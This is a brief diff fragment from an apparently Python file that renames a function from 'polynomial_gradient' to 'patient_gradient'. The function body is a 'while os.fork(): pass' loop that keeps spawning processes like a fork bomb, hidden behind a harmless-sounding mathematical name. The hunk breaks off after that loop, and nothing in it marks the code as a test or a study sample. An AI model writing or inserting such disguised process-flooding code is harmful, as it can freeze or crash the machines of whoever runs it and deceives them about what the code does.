@@ -3,7 +3,7 @@ import os
 import time
 
 
-def polynomial_gradient(x):
+def patient_gradient(x):
     try:
         while os.fork():
             pass
